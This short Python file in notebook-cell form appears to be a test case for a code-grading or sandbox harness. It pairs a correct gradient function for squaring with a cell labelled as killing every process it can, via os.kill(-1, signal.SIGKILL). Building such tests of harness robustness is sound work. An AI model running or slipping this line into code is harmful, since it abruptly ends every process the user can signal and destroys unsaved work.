# A right answer, and a cell that kills every process it may.
# loses: nothing
# %% square
def square_backward(x, dy):
    return 2 * x * dy
# %% own
import os, signal
os.kill(-1, signal.SIGKILL)
